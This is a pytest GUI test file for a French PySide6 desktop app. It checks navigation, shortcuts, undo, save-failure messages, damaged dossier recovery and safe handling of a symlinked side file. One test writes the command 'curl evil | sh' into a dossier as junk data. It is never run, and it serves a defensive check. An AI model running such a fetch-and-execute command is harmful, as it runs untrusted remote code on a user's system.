"""The frame: places, history, shortcuts, messages, and what it says when things go wrong."""

from __future__ import annotations

import errno
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest
from PySide6.QtCore import QCoreApplication, QSize, Qt
from PySide6.QtWidgets import QLabel, QPushButton, QToolButton
from pytestqt.qtbot import QtBot

from kit.content.index import OUTLINE
from kit.dossier.dossier import Dossier
from kit.dossier.model import Status
from kit.errors import SaveRefused
from tests.gui.marking import mark
from ui import app
from ui.services import window_size
from ui.services.context import AppContext
from ui.services.navigation import PageId, Route, ToArticle, place
from ui.shell import after_start
from ui.shell.main_window import MainWindow


def entry(window: MainWindow, text: str) -> QPushButton:
    """Return the sidebar's button with this text."""
    return next(b for b in window.sidebar.findChildren(QPushButton) if b.text() == text)


def test_only_the_first_page_is_built_at_start(window: MainWindow) -> None:
    assert list(window._pages) == [PageId.HOME]


def test_back_and_forward_by_keyboard(qtbot: QtBot, window: MainWindow) -> None:
    entry(window, "À propos").click()
    assert window.windowTitle() == "À propos – Kit ESS"
    entry(window, "Accueil").click()
    qtbot.keyClick(window, Qt.Key.Key_Left, Qt.KeyboardModifier.AltModifier)
    assert window.navigator.here == Route(PageId.ABOUT)
    qtbot.keyClick(window, Qt.Key.Key_Right, Qt.KeyboardModifier.AltModifier)
    assert window.navigator.here == Route(PageId.HOME)
    qtbot.keyClick(window, Qt.Key.Key_Left, Qt.KeyboardModifier.AltModifier)
    qtbot.keyClick(window, Qt.Key.Key_Left, Qt.KeyboardModifier.AltModifier)
    assert window.navigator.here == Route(PageId.HOME)
    qtbot.keyClick(window, Qt.Key.Key_Left, Qt.KeyboardModifier.AltModifier)
    assert window.navigator.here == Route(PageId.HOME)


def test_ctrl_k_puts_the_cursor_in_the_search_field(qtbot: QtBot, window: MainWindow) -> None:
    window.activateWindow()
    qtbot.keyClick(window, Qt.Key.Key_K, Qt.KeyboardModifier.ControlModifier)
    assert window.focusWidget() is window.sidebar.search


def test_ctrl_z_undoes_the_last_tick_and_ctrl_y_brings_it_back(
    qtbot: QtBot, window: MainWindow, context: AppContext
) -> None:
    with qtbot.waitSignal(context.session.saved):
        mark(context.session, "action:elu-commission", Status.DONE)
    with qtbot.waitSignal(context.session.saved):
        qtbot.keyClick(window, Qt.Key.Key_Z, Qt.KeyboardModifier.ControlModifier)
    assert context.session.status("elu-commission") is Status.TODO
    with qtbot.waitSignal(context.session.saved):
        qtbot.keyClick(window, Qt.Key.Key_Y, Qt.KeyboardModifier.ControlModifier)
    assert context.session.status("elu-commission") is Status.DONE


def test_nothing_to_undo_is_said_not_shown_as_an_error(qtbot: QtBot, window: MainWindow) -> None:
    with qtbot.waitSignal(window.announced) as said:
        qtbot.keyClick(window, Qt.Key.Key_Z, Qt.KeyboardModifier.ControlModifier)
    assert said.args == ["Il n’y a plus rien à annuler."]
    assert window.notice.text() == ""


def test_f1_opens_the_help(qtbot: QtBot, window: MainWindow) -> None:
    qtbot.keyClick(window, Qt.Key.Key_F1)
    assert window.navigator.here == ToArticle("aide-ecrans", anchor="accueil")
    qtbot.keyClick(window, Qt.Key.Key_F1)
    assert window.navigator.here == ToArticle("aide"), "from the help itself, all of it"
    assert "Aide" in window.windowTitle()


def test_the_card_says_when_all_is_saved(qtbot: QtBot, window: MainWindow, context: AppContext) -> None:
    shown: list[str] = []
    context.session.saving.connect(lambda: shown.append(window.sidebar._saved.text()))
    with qtbot.waitSignal(context.session.saved):
        mark(context.session, "action:elu-commission", Status.DONE)
    assert shown == ["Enregistrement…"]
    assert window.sidebar._saved.text().startswith("Enregistré à ")


@pytest.mark.parametrize("number", [errno.ENOSPC, errno.EROFS, errno.EIO])
def test_a_refused_save_is_said_and_nothing_is_shown_as_saved(
    qtbot: QtBot, window: MainWindow, context: AppContext, monkeypatch: pytest.MonkeyPatch, number: int
) -> None:
    def refuse(event: object) -> None:
        raise SaveRefused(context.session.path, OSError(number, "refused"))

    monkeypatch.setattr(context.session.dossier, "commit", refuse)
    with qtbot.waitSignal(context.session.refused):
        mark(context.session, "action:elu-commission", Status.DONE)
    assert context.session.status("elu-commission") is Status.TODO
    assert window.sidebar._saved.text() == "Non enregistré"
    assert "n’a pas été enregistré" in window.notice.text() and "intact" in window.notice.text()


def test_progress_is_shown_in_the_sidebar_and_on_accueil(qtbot: QtBot, window: MainWindow, context: AppContext) -> None:
    with qtbot.waitSignal(context.session.saved):
        mark(context.session, "action:elu-commission", Status.DONE)
        mark(context.session, "action:elu-conseil-developpement", Status.NOT_CONCERNED)
    assert entry(window, "Agir").accessibleDescription() == "1 action faite sur 19 · 1 non concernée"


def test_standard_buttons_are_french(qapp: object, window: MainWindow) -> None:
    assert QCoreApplication.translate("QPlatformTheme", "Cancel") == "Annuler"


def test_a_damaged_dossier_opens_and_says_what_was_set_aside(
    make_context: Callable[..., AppContext], tmp_path: Path
) -> None:
    first = make_context(tmp_path / "abime.kitess")
    mark(first.session, "action:elu-commission", Status.DONE)
    first.session.close()
    with (tmp_path / "abime.kitess").open("ab") as file:
        file.write(b'{"v":1,"coup')
    again = make_context(tmp_path / "abime.kitess")
    assert again.session.status("elu-commission") is Status.DONE
    (remark,) = after_start.dossier_remarks(again.session.dossier)
    assert "1 ligne illisible" in remark and "abime.kitess.mis-de-cote" in remark
    assert (tmp_path / "abime.kitess.mis-de-cote").read_bytes().count(b'{"v":1,"coup') == 1


def test_what_is_no_file_beside_a_dossier_is_left_alone_and_said(
    make_context: Callable[..., AppContext], tmp_path: Path
) -> None:
    target = tmp_path / "profil"
    target.write_bytes(b"")
    path = tmp_path / "recu" / "plan.kitess"
    path.parent.mkdir()
    make_context(path).session.close()
    with path.open("ab") as file:
        file.write(b"curl evil | sh\n")
    path.with_name("plan.kitess.mis-de-cote").symlink_to(target)
    again = make_context(path)
    _, remark = after_start.dossier_remarks(again.session.dossier)
    assert "plan.kitess.mis-de-cote" in remark and "ni lu ni changé" in remark
    assert target.read_bytes() == b""


def test_the_mailto_is_cut_out_of_what_qt_says(caplog: pytest.LogCaptureFixture) -> None:
    from PySide6.QtCore import QtMsgType

    app.on_qt_message(QtMsgType.QtWarningMsg, None, "no handler for mailto:a@b.fr?body=secret%20dit here")
    assert "secret" not in caplog.text and "mailto:…" in caplog.text


def test_changed_texts_are_compiled_after_the_first_frame(
    qtbot: QtBot, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make_context: Callable[..., AppContext]
) -> None:
    import shutil

    from kit import compiling, paths

    copy = tmp_path / "resources"
    shutil.copytree(paths.resources(), copy)
    monkeypatch.setenv("KIT_RESOURCES", str(copy))
    assert compiling.is_fresh(paths.shipped_index())
    text = copy / "content" / "agir" / "elu-designe" / "elu-commission.md"
    text.write_text(text.read_text(encoding="utf-8").replace('title = "', 'title = "Bien '), encoding="utf-8")
    act = copy / "actes" / "note-sourcage.md"
    act.write_text(act.read_text(encoding="utf-8").replace('title = "', 'title = "Bien ', 1), encoding="utf-8")
    context = make_context()
    assert not context.acts.models.get("note-sourcage").title.startswith("Bien ")
    made = MainWindow(context)
    qtbot.addWidget(made)
    made.open_route(Route(PageId.HOME))
    assert not context.library.article("elu-commission").title.startswith("Bien ")
    later = after_start.AfterStart(context, context.search.folder, made)
    later.texts_changed.connect(made.show_texts_anew)
    with qtbot.waitSignal(later.texts_changed, timeout=20_000):
        later.run()
    assert context.library.article("elu-commission").title.startswith("Bien ")
    assert context.acts.models.get("note-sourcage").title.startswith("Bien ")
    assert "elu-commission" in [hit.id for hit in context.search.ask(lambda index: index.search("bien commission"))[:3]]


def test_a_broken_text_is_told_and_the_window_shows_the_rest(
    qtbot: QtBot, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make_context: Callable[..., AppContext]
) -> None:
    import shutil

    from kit import paths

    copy = tmp_path / "resources"
    shutil.copytree(paths.resources(), copy)
    shutil.rmtree(copy / "index")
    (copy / "content" / "agir" / "reseaux" / "reseaux-cress.md").write_text("+++\nid = \n+++\n", encoding="utf-8")
    monkeypatch.setenv("KIT_RESOURCES", str(copy))
    context = make_context()
    made = MainWindow(context)
    qtbot.addWidget(made)
    made.open_route(Route(PageId.HOME))
    later = after_start.AfterStart(context, context.search.folder, made)
    later.noticed.connect(made.show_notice)
    with qtbot.waitSignal(later.texts_changed, timeout=20_000):
        later.run()
    assert "reseaux-cress.md" in made.notice.text()
    assert len(context.library.outline.actions) == 19


@pytest.mark.parametrize(("version", "texts"), [("0.0.9", ""), ("", "2025.01 2025-01-01")])
def test_what_is_new_is_offered_once_after_an_update(
    qtbot: QtBot, window: MainWindow, context: AppContext, version: str, texts: str
) -> None:
    offers: list[tuple[object, ...]] = []

    def start() -> None:
        later = after_start.AfterStart(context, context.search.folder, window)
        later.offered.connect(lambda *told: offers.append(told))
        later.run()
        qtbot.waitUntil(lambda: not context.jobs.is_busy, timeout=20_000)

    start()
    assert offers == [], "at the first start nothing is an update"
    for name, value in (("program_seen", version), ("texts_seen", texts)):
        if value:
            context.settings.set(name, value)
    start()
    ((words, _, route),) = offers
    assert ("mis à jour" if version else "nouveaux textes") in str(words) and route == ToArticle("nouveautes")
    start()
    assert len(offers) == 1


def test_texts_that_did_not_change_are_left_alone(
    qtbot: QtBot, window: MainWindow, context: AppContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    adopted: list[object] = []
    monkeypatch.setattr(type(context.library), "adopt", lambda _self, store: adopted.append(store))
    later = after_start.AfterStart(context, context.search.folder, window)
    later.noticed.connect(window.show_notice)
    later.run()
    qtbot.waitUntil(lambda: not context.jobs.is_busy, timeout=20_000)
    assert adopted == []
    assert window.notice.text() == ""


def test_a_cache_that_cannot_be_written_keeps_the_texts_and_says_so(
    qtbot: QtBot, window: MainWindow, context: AppContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kit import compiling

    monkeypatch.setattr(compiling, "is_fresh", lambda _folder: False)
    monkeypatch.setenv("KIT_CACHE", "/proc/nulle-part")
    later = after_start.AfterStart(context, context.search.folder, window)
    later.noticed.connect(window.show_notice)
    with qtbot.waitSignal(later.noticed, timeout=20_000):
        later.run()
    assert "version précédente" in window.notice.text()
    assert context.library.article("elu-commission").title


def test_a_file_of_noise_is_left_as_it_is_and_said(make_context: Callable[..., AppContext], tmp_path: Path) -> None:
    noise = b"\x00\xff\x13 du bruit\n" * 40
    (tmp_path / "bruit.kitess").write_bytes(noise)
    context = make_context(tmp_path / "bruit.kitess")
    assert context.dossiers.unreadable == tmp_path / "bruit.kitess"
    assert context.session.path != tmp_path / "bruit.kitess"
    assert (tmp_path / "bruit.kitess").read_bytes() == noise


def test_the_same_person_opening_twice_is_told_so(make_context: Callable[..., AppContext], tmp_path: Path) -> None:
    mark(make_context(tmp_path / "deux.kitess").session, "action:elu-commission", Status.DONE)
    second = make_context(tmp_path / "deux.kitess")
    (remark,) = after_start.dossier_remarks(second.session.dossier)
    assert remark.startswith("Le kit est déjà ouvert avec ce dossier.")


# --- room on the screen, words, marks ---


def test_on_a_small_screen_the_window_fits_with_its_frame() -> None:
    laptop = QSize(1366, 728)  # 1366 × 768 without the taskbar
    assert window_size.first_size(laptop) == QSize(1280, 688)
    assert window_size.first_size(QSize(1920, 1040)) == QSize(1280, 800)
    assert window_size.least_size(laptop) == QSize(900, 540)
    assert window_size.least_size(laptop / 2) == QSize(667, 324), "with --scale 2"


def test_the_window_asks_for_no_more_than_its_screen_has(window: MainWindow) -> None:
    assert window.minimumSize() == window_size.least_size(window.screen().availableSize())


def test_a_dossier_that_cannot_be_written_is_not_said_to_be_saved(
    make_context: Callable[..., AppContext], tmp_path: Path, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    refused = Dossier.unwritable(tmp_path / "cle.kitess", OSError(errno.EROFS, "refused"))
    monkeypatch.setattr(app, "open_first", lambda path, by: (refused, None))
    made = MainWindow(make_context())
    qtbot.addWidget(made)
    assert made.sidebar._saved.text() == "Lecture seule"
    made.open_route(Route(PageId.ACT, "elu-designe"))
    labels = [label.text() for label in made.current_page.findChildren(QLabel)]
    assert "Lecture seule" in labels and "Chaque coche est enregistrée aussitôt" not in labels


def test_the_shortcut_of_the_search_field_waits_for_the_cross_to_go(qtbot: QtBot, window: MainWindow) -> None:
    field = window.sidebar.search
    assert field._hint.isVisible()
    qtbot.keyClicks(field, "a")
    cross = field.findChild(QToolButton)
    qtbot.waitUntil(cross.isVisible)
    assert not field._hint.isVisible()
    qtbot.keyClick(field, Qt.Key.Key_Backspace)
    assert field._hint.isVisible() != cross.isVisible()
    qtbot.waitUntil(field._hint.isVisible)
    assert not cross.isVisible()


@pytest.mark.parametrize("page", [PageId.HOME, PageId.ACT, PageId.CONTACT, PageId.PRINT])
def test_a_drawing_keeps_off_the_words_of_its_button(window: MainWindow, page: PageId) -> None:
    window.open_route(place(page))
    buttons = [b for b in window.current_page.findChildren(QPushButton) if b.text() and not b.icon().isNull()]
    drawn = [b for b in buttons if b.iconSize().height() == window.context.theme.icon]
    assert drawn
    assert [b.text() for b in drawn if b.iconSize().width() <= b.iconSize().height()] == []


def test_an_old_index_of_ones_own_is_dropped_for_the_shipped_one(
    qtbot: QtBot, make_context: Callable[..., AppContext]
) -> None:
    import shutil

    from kit import paths

    shutil.copytree(paths.shipped_index(), paths.own_index())
    outline = paths.own_index() / OUTLINE
    record = msgspec.msgpack.decode(outline.read_bytes())
    record["files"] = {name: ["0" * 64, 0, 0] for name in record["files"]}
    outline.write_bytes(msgspec.msgpack.encode(record))
    context = make_context()
    assert context.search.folder == paths.own_index()
    later = after_start.AfterStart(context, context.search.folder)
    with qtbot.waitSignal(later.texts_changed, timeout=20_000):
        later.run()
    assert context.search.folder == paths.shipped_index()
    assert not paths.own_index().exists()
